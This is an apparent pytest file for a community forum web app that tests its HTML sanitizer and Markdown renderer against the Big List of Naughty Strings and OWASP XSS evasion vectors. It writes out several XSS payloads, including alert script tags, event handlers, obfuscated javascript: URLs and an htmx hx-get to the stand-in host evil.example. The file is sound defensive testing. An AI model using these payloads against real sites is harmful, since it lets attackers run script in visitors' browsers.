"""Hostile input: the Big List of Naughty Strings and the OWASP XSS filter evasion vectors
(tests/data) typed into every text field of every form come back as inert text.

- The checker (hostile.executable_markup) is shown to find what would run.
- Every string of both corpora goes through the Markdown renderer that all long texts use.
- Every text field of every form is posted with hostile strings (hostile_forms.FORM_POSTS);
  the page the post leads to, the other pages that show the text, the search results and
  the form shown again after a refused post must hold no executable markup. Each field gets
  the sample (hostile.hostile_sample: four short probes of our own and the corpora's short
  script injections first, then the OWASP vectors, then the rest of the naughty strings) in
  order, as many strings as fit its length in each post, continuing in the next post; a long
  text field therefore sees hundreds of them, a 20-character name the first few short ones
  (a deterministic subset: posting each of the ~700 strings through each of some 90 fields
  would take hours). The refused post fills every field with up to 2000 characters of the
  sample, since a form shown again echoes text of any length.
"""
import pytest
import sqlalchemy as sa

from forum.core.markup import render_markdown
from forum.extensions import db
from forum.lists.models import Need
from security.form_fields import all_forms, form_name, text_fields
from security.hostile import SHORT_PROBES, executable_markup, hostile_sample, naughty_strings, xss_vectors
from security.hostile_forms import FORM_POSTS
from test_routes import route_ids

PAGE = "<!doctype html><html><head><title>t</title></head><body><main><p>before</p>{}<p>after</p></main></body></html>"


def test_the_corpora_are_complete():
    assert len(naughty_strings()) == 488 and len(xss_vectors()) == 212
    assert "<script>alert(123)</script>" in naughty_strings()
    assert len(hostile_sample()) == len(set(naughty_strings()) | set(xss_vectors()) | set(SHORT_PROBES))


@pytest.mark.parametrize("vector", [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert('XSS')>",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">Click Me</a>", "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>", "<BODY ONLOAD=alert('XSS')>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">", "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<form><button formaction=javascript&colon;alert(1)>CLICKME", "<p hx-get=\"https://evil.example\" hx-trigger=load>",
    "<p hx-on:click=\"alert(1)\">x</p>", "<object data=\"javascript:alert(XSS)\">", "<BASE HREF=\"javascript:alert('XSS');//\">",
])
def test_the_checker_finds_what_would_run(vector):
    assert executable_markup(PAGE.format(vector)), vector


def test_the_checker_passes_plain_and_escaped_text():
    assert executable_markup(PAGE.format("&lt;script&gt;alert(1)&lt;/script&gt; <a href=\"/needs/1\">需求</a>")) == []
    assert executable_markup(PAGE.format('<div hx-disable><p hx-get="https://evil.example">x</p></div>')) == []


def test_every_hostile_string_renders_inert_as_markdown():
    """The one renderer of every long text (need and proposal bodies, comments, minutes, ...)."""
    found = {}
    for text in hostile_sample():
        html = render_markdown(text)
        problems = executable_markup(html, fragment=True) + executable_markup(PAGE.format(html))
        if problems:
            found[text] = problems
    assert not found


def test_every_text_field_of_every_form_is_posted():
    """A form added later (or a text field added to a form) fails here until FORM_POSTS covers it."""
    posted = {(post.form, name) for post in FORM_POSTS.values() for name in _fields(post)}
    missing = [(form_name(form), name) for form in all_forms() for name in text_fields(form)
               if (form_name(form), name) not in posted]
    assert not missing


def _fields(post) -> dict[str, int]:
    if post.fields is not None:
        return post.fields
    form = next(form for form in all_forms() if form_name(form) == post.form)
    return text_fields(form)


class Filler:
    """Hands each field the next hostile strings that fit it, post after post."""

    def __init__(self, accepts):
        self.sample = [text for text in hostile_sample() if accepts(text)]
        self.cursor = {}

    def text(self, field: str, limit: int, marker: str) -> str:
        separator = "\n\n" if limit > 200 else " "
        parts, length, i = [marker], len(marker), self.cursor.get(field, 0)
        while i < len(self.sample):
            text = self.sample[i]
            if length + len(separator) + len(text) <= limit:
                parts.append(text)
                length += len(separator) + len(text)
            elif len(parts) > 1:
                break
            i += 1
        self.cursor[field] = i
        return separator.join(parts)


def _executable_on(client, url: str) -> list[str]:
    response = client.get(url, follow_redirects=True)
    assert response.status_code == 200, (url, response.status_code)
    if not response.mimetype.startswith("text/html"):
        return []  # e.g. the deliberation's calendar file: no browser runs it
    return [f"{url}: {problem}" for problem in executable_markup(response.get_data(as_text=True))]


@pytest.mark.parametrize("name", FORM_POSTS)
def test_hostile_text_in_every_field_of_every_form_comes_back_inert(client, auth, demo, name):
    post = FORM_POSTS[name]
    ids = {**route_ids(demo), "staff_id": demo.staff.id, "compound": demo.community.compounds[0].id,
           "school": demo.school.id}
    if post.who != "anonymous":
        assert auth.login(getattr(demo, post.who).phone).status_code == 303
    prefix = post.prefix.format(**ids) + "-" if post.prefix else ""
    fields = {prefix + field: limit for field, limit in _fields(post).items()}
    problems = []
    ids.update(post.prepare(demo, ids, 0) if post.prepare else {})
    if post.refusable:
        # Refused first (while what it acts on is as the post expects): the form comes back with
        # everything typed in it, hostile text included, however long (the length limits do not
        # apply to what is shown again).
        refused = Filler(lambda text: True)
        typed = {field: refused.text(field, max(limit, 2000), "试错") for field, limit in fields.items()}
        data = {**post.data(ids, 0), **typed}
        data.update(post.invalid(data) if post.invalid else {next(iter(fields)): ""})
        response = client.post(post.url.format(**ids), data=data)
        assert response.status_code == 400, response.status_code
        problems += [f"refused post: {problem}" for problem in executable_markup(response.get_data(as_text=True))]
    filler = Filler(post.accepts)
    for n in range(post.posts):
        if n and post.prepare:
            ids.update(post.prepare(demo, ids, n))
        marker = f"试{n}号"
        typed = {field: filler.text(field, limit, marker) for field, limit in fields.items()
                 if field.removeprefix(prefix) not in post.keep_valid}
        response = client.post(post.url.format(**ids), data={**post.data(ids, n), **typed})
        assert response.status_code == 303, (n, _errors(response))
        location = response.headers["Location"]
        pages = [location] + [page.format(location=location.split("#")[0], **ids) for page in post.pages]
        if post.search:
            pages.append(f"/search?q={marker}")
        for page in pages:
            problems += _executable_on(client, page)
    assert not problems


def _errors(response) -> str:
    """The error messages of a refused form, to say why a post meant to be valid was not."""
    import re

    body = response.get_data(as_text=True)
    return " | ".join(re.findall(r'class="[^"]*(?:error|invalid)[^"]*"[^>]*>([^<]{1,200})<', body)) or body[:300]


def test_a_nul_character_is_dropped_before_anything_reads_the_input(client, auth, demo):
    """Nobody types one, and PostgreSQL cannot store one: without this the post failed with a 500."""
    auth.login(demo.resident.phone)
    response = client.post("/needs/new?community=1", data={
        "title": "楼道\x00灯坏了好几天", "body": "<IMG SRC=java\x00script:alert(1)>", "category": "other", "urgency": "1"})
    assert response.status_code == 303
    need = db.session.scalar(sa.select(Need).order_by(Need.id.desc()))
    assert need.title == "楼道灯坏了好几天" and "\x00" not in need.body and "javascript" not in need.body_html
    assert client.get("/search?q=a\x00b").status_code == 200
